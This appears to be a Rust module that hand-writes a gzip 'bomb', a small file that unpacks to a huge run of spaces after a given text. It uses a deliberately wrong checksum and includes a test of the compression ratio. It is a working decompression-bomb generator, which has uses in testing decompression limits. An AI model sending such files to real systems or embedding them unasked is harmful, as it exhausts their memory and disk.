//! A minimal gzip writer, for a small file that unpacks to a large one.

/// Packs `text` and then `spaces` spaces, a thousand bytes to six.
///
/// One block with the fixed codes: each byte of the text as a literal, one space, and then "repeat
/// the last byte 258 times" until there are enough. The checksum at the end is wrong: a reader that
/// gets that far has already unpacked everything.
pub(super) fn bomb(text: &[u8], spaces: usize) -> Vec<u8> {
    let mut bits = Bits { bytes: vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255], filled: 8 };
    // The last block, with fixed codes.
    bits.push(1, 1);
    bits.push(1, 2);
    for byte in text.iter().chain(b" ") {
        // Codes are written from their highest bit, all other numbers from their lowest.
        match byte {
            0..=143 => bits.code(0x30 + u32::from(*byte), 8),
            144..=255 => bits.code(0x190 + u32::from(byte - 144), 9),
        }
    }
    for _ in 0..spaces / 258 {
        // A length of 258, then a distance of one.
        bits.code(0b1100_0101, 8);
        bits.code(0, 5);
    }
    bits.code(0, 7);
    bits.bytes.extend([0; 8]);
    bits.bytes
}

struct Bits {
    bytes: Vec<u8>,
    /// How many bits of the last byte are used.
    filled: u32,
}

impl Bits {
    fn push(&mut self, value: u32, count: u32) {
        for place in 0..count {
            if self.filled == 8 {
                self.bytes.push(0);
                self.filled = 0;
            }
            if let Some(last) = self.bytes.last_mut() {
                *last |= ((value >> place & 1) as u8) << self.filled;
            }
            self.filled += 1;
        }
    }

    fn code(&mut self, value: u32, count: u32) {
        self.push(value.reverse_bits() >> (32 - count), count);
    }
}

#[cfg(test)]
mod tests {
    use super::bomb;

    #[test]
    fn gzip_bomb_is_a_hundred_times_smaller_than_its_content() {
        let packed = bomb(b"{}", 64 << 20);
        assert!(packed.len() < (64 << 20) / 100, "{}", packed.len());
        assert_eq!(packed[..3], [0x1f, 0x8b, 8]);
    }
}
